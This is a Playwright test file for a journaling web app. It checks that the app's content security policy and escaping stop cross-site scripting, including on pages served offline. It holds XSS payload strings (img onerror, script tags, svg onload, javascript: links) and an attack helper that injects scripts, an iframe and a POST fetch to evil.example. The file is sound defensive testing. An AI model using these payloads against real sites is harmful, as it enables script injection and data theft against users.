import { type BrowserContext, expect, type Page } from '@playwright/test';
import { named } from './support/named';
import { loseSignal } from './support/network';
import { arrive, everythingIsSynced, shellIsKept, somebody } from './support/person';
import type { RunningServer } from './support/server';
import { test } from './support/test';

/** Markup in every costume: an element, a script, a link, and what would end an attribute or a template. */
const HOSTILE =
  '"><img src=x onerror=window.ran=1><script>window.ran=1</script><svg onload=window.ran=1>' +
  ' [read](javascript:window.ran=1) javascript:window.ran=1 {{window.ran=1}}';

let server: RunningServer;
test.beforeAll(({ server: shared }) => {
  server = shared;
});
test.use({ viewport: { width: 390, height: 844 }, serviceWorkers: 'allow' });

test('A25 the kept shell answers under the policy it was served with, and what gets into the page does not run', async ({
  page,
  context,
}) => {
  const served = await headersServed(context, '/home');
  const landing = await headersServed(context, '/');
  expect(served['content-security-policy']).toContain("script-src 'self'");
  await arrive(page, server.origin, somebody());
  await page.goto(`${server.origin}/home`);
  await shellIsKept(page);
  await loseSignal(context);
  for (const path of ['/home', '/daily-drop', '/auth', '/no-such-page']) {
    const answer = await page.goto(server.origin + path);
    expect(answer?.fromServiceWorker()).toBe(true);
    expect(answer?.headers()).toMatchObject(served);
    await expect(page.locator('#root')).not.toBeEmpty();
    await attack(page);
    await expect.poll(() => outcome(page)).toEqual({ ran: [], refused: REFUSED });
  }
  expect(new Set(await keptPolicies(page))).toEqual(
    new Set([served, landing].map((headers) => headers['content-security-policy'])),
  );
});

test('A12 A13 A22 what a person wrote is text on every screen, and no cache has any of it', async ({
  page,
  context,
}) => {
  const person = { ...somebody(), username: `"><img src=x onerror=window.ran=1>${process.pid}` };
  await arrive(page, server.origin, person);
  await writeEverywhere(context);
  await page.goto(`${server.origin}/home`);
  await everythingIsSynced(page);
  const today = localDay();
  for (const [path, shows] of [
    ['/home', false],
    ['/check-in/history', true],
    ['/journal/history', true],
    ['/journal', true],
    ['/nourish/history', true],
    ['/nourish/track', false],
    ['/bible-prayer/history', true],
    ['/bible-prayer', false],
    ['/daily-drop', false],
    ['/daily-drop/history', true],
    ['/day-review', false],
    [`/day/${today}`, true],
    ['/calendar', false],
    ['/sync', false],
  ] as const) {
    await page.goto(server.origin + path);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    if (shows) await expect(page.getByText('<script>window.ran=1').first()).toBeVisible();
    expect([path, await whatBecameOfIt(page)]).toEqual([path, 0]);
  }
  expect(await keptUnderApi(page)).toEqual([]);
});

const POLICIES = [
  'content-security-policy',
  'x-content-type-options',
  'x-frame-options',
  'referrer-policy',
  'permissions-policy',
  'cross-origin-opener-policy',
];

async function headersServed(
  context: BrowserContext,
  path: string,
): Promise<Record<string, string>> {
  const answer = await context.request.get(server.origin + path, {
    headers: { accept: 'text/html' },
  });
  const headers = answer.headers();
  return Object.fromEntries(POLICIES.map((name) => [name, headers[name] ?? 'none']));
}

/** What the attack below runs into, all of it. */
const REFUSED = ['connect-src', 'frame-src', 'script-src', 'script-src-attr', 'script-src-elem'];

interface Attacked extends Window {
  ran: string[];
  refused: Set<string>;
}

/** Does what somebody does who has found a way to put markup or code into the page. */
function attack(page: Page): Promise<void> {
  return page.evaluate(() => {
    const attacked = window as unknown as Attacked;
    attacked.ran = [];
    attacked.refused = new Set();
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      attacked.refused.add(effectiveDirective),
    );
    // Not at once: what the test itself evaluates is free of the policy.
    setTimeout(() => {
      const script = document.createElement('script');
      script.textContent = 'window.ran.push("element")';
      const place = document.createElement('div');
      place.innerHTML =
        '<img src="data:," onerror="window.ran.push(`attribute`)">' +
        '<a href="javascript:window.ran.push(`link`)">go</a>' +
        '<iframe src="https://evil.example/"></iframe>';
      document.body.append(script, place);
      place.querySelector('a')?.click();
      fetch('https://evil.example/?words', { method: 'POST' }).catch(() => undefined);
      // biome-ignore lint/security/noGlobalEval: what the policy must refuse
      globalThis.eval('window.ran.push("eval")');
    });
  });
}

function outcome(page: Page): Promise<{ ran: string[]; refused: string[] }> {
  return page.evaluate(() => {
    const { ran, refused } = window as unknown as Attacked;
    return { ran, refused: [...refused].toSorted() };
  });
}

/** The policies that pages are kept with. */
function keptPolicies(page: Page): Promise<(string | null)[]> {
  return page.evaluate(async () => {
    const policies: (string | null)[] = [];
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const request of await cache.keys()) {
        const headers = (await cache.match(request))?.headers;
        if (!headers?.get('content-type')?.includes('html')) continue;
        policies.push(headers.get('content-security-policy'));
      }
    }
    return policies;
  });
}

function keptUnderApi(page: Page): Promise<string[]> {
  return page.evaluate(async () => {
    const kept = await Promise.all((await caches.keys()).map((name) => caches.open(name)));
    const requests = (await Promise.all(kept.map((cache) => cache.keys()))).flat();
    return requests.map(({ url }) => url).filter((url) => new URL(url).pathname.startsWith('/api'));
  });
}

/** How many elements and runs the text has become. */
function whatBecameOfIt(page: Page): Promise<number> {
  return page.evaluate(
    () =>
      Number('ran' in window) +
      document.querySelectorAll(
        'img[src="x"], svg[onload], #root script, [href^="javascript:" i], [src^="javascript:" i]',
      ).length,
  );
}

async function writeEverywhere(context: BrowserContext): Promise<void> {
  const today = localDay();
  const self = await named(context.request, server.origin);
  for (const [path, data] of [
    ['check-in', { date: today, mood: 'hopeful', truthStatement: HOSTILE, gratitude1: HOSTILE }],
    ['journal', { content: HOSTILE }],
    [`eating-habits/${today}`, { emotionalEating: HOSTILE, reflection: HOSTILE }],
    [`bible-prayer/${today}`, { biblePassage: HOSTILE, reflection: HOSTILE }],
    ['day-review/1', { grateful: HOSTILE, truth: HOSTILE, tomorrowStep: HOSTILE }],
    ['daily-drop/1/complete', { reflection: HOSTILE }],
  ] as const) {
    const headers = { ...self, 'x-local-day': today };
    const answer = await context.request.post(`${server.origin}/api/${path}`, { data, headers });
    expect([path, answer.ok()]).toEqual([path, true]);
  }
}

function localDay(): string {
  const here = new Date();
  return new Date(here.getTime() - here.getTimezoneOffset() * 60_000).toISOString().slice(0, 10);
}
